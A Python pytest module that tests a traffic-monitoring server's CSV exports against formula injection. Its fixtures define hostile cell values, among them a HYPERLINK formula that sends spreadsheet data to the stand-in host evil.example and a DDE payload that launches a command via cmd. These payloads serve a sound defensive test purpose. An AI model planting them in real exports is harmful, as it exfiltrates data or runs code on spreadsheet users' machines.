"""CSV injection: edge text (direction, class) and site text (camera names) that reach a
planner's spreadsheet must not open as formulas.

On main a stored direction ``=HYPERLINK(...)`` went out as that cell verbatim, which Excel and
LibreOffice run as a formula when the planner opens the download.
"""

from __future__ import annotations

import csv
import io
import uuid
from collections.abc import Iterator
from datetime import timedelta

import psycopg
import pytest
from fastapi.testclient import TestClient

from contract import IncidentEvent, Movement
from server.api.export import csv_safe
from server.ingest.writer import BatchWriter
from tests.server.helpers import counts, incident
from tests.server.history_data import START
from tests.server.security_history.common import Headers, migrated, serve, write_site
from tests.server.test_writer import acc

pytestmark = pytest.mark.integration
SITE = "csvinj"
CAM = "cam-x1"
EVIL_DIRECTION = '=HYPERLINK("http://evil.example/?"&A1,"click")'
EVIL_CLASS = "+cmd|' /C calc'!A0"
EVIL_MOVER = "-2+3"
EVIL_NAME = "\tCamera"
JUNCTION = "    junctions:\n      - {id: j1, name: J, entries: [L1, L2], exits: [L1, L2]}\n"


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("north", "north"),
        ("a=b", "a=b"),
        ("", ""),
        (-3, -3),  # numbers stay numbers
        (2.5, 2.5),
        (None, None),
    ],
    ids=repr,
)
def test_csv_safe(value: object, cell: object) -> None:
    assert csv_safe(value) == cell


@pytest.fixture(scope="module")
def app(fresh_db: str, tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[TestClient, Headers]]:
    folder = tmp_path_factory.mktemp("site")
    path = write_site(folder, SITE, [CAM], JUNCTION)
    # A hostile camera name in the site file (an admin's text, but it lands in the same spreadsheets).
    path.write_text(
        path.read_text(encoding="utf-8").replace(f'"Camera {CAM}"', f'"{EVIL_NAME}"'), encoding="utf-8"
    )
    site = migrated(fresh_db, path)
    writer = BatchWriter("plain", site.site.timezone)
    # direction and cls are free text in the contract (ids such as line_id must start alphanumeric).
    cells = {("L1", EVIL_DIRECTION, "car"): 4, ("L2", "north", EVIL_CLASS): 2}
    msg = counts(SITE, CAM, 1, START, cells, bin_s=300)
    msg = msg.model_copy(
        update={
            "movements": [Movement(junction_id="j1", from_line="L1", to_line="L2", cls=EVIL_MOVER, count=9)]
        }
    )
    hostile = incident(SITE, CAM, 2, uuid.uuid4(), IncidentEvent.START, START)
    with psycopg.connect(fresh_db, autocommit=True) as conn:
        # Stored directly: whatever ingest lets through (or let through before), export must be safe.
        writer.write(conn, [acc(msg), acc(hostile)])
    with serve(fresh_db, path, roles=("admin",)) as (client, headers):
        yield client, headers["admin"]


def _download(client: TestClient, h: Headers, path: str) -> list[dict[str, str]]:
    params = {"start": START.isoformat(), "end": (START + timedelta(hours=1)).isoformat(), "format": "csv"}
    r = client.get(path, params=params, headers=h)
    assert r.status_code == 200, r.text
    return list(csv.DictReader(io.StringIO(r.text, newline="")))


def test_volume_csv_neutralises_edge_text(app: tuple[TestClient, Headers]) -> None:
    rows = [r for r in _download(*app, "/api/v1/history/volume") if r["count"] != "0"]
    got = {(r["line_id"], r["direction"], r["cls"]) for r in rows}
    assert got == {("L1", "'" + EVIL_DIRECTION, "car"), ("L2", "north", "'" + EVIL_CLASS)}


def test_incident_csv_neutralises_the_camera_name(app: tuple[TestClient, Headers]) -> None:
    (row,) = _download(*app, "/api/v1/history/incidents")
    assert (row["camera_name"], row["count"]) == ("'" + EVIL_NAME, "1")


def test_turning_movements_csv_neutralises_the_class(app: tuple[TestClient, Headers]) -> None:
    (row,) = _download(*app, "/api/v1/history/turning-movements")
    assert (row["cls"], row["count"]) == ("'" + EVIL_MOVER, "9")


def test_json_keeps_the_stored_text(app: tuple[TestClient, Headers]) -> None:
    client, h = app
    params = {"start": START.isoformat(), "end": (START + timedelta(hours=1)).isoformat()}
    body = client.get("/api/v1/history/volume", params=params, headers=h).json()
    assert EVIL_DIRECTION in {r["direction"] for r in body["rows"]}
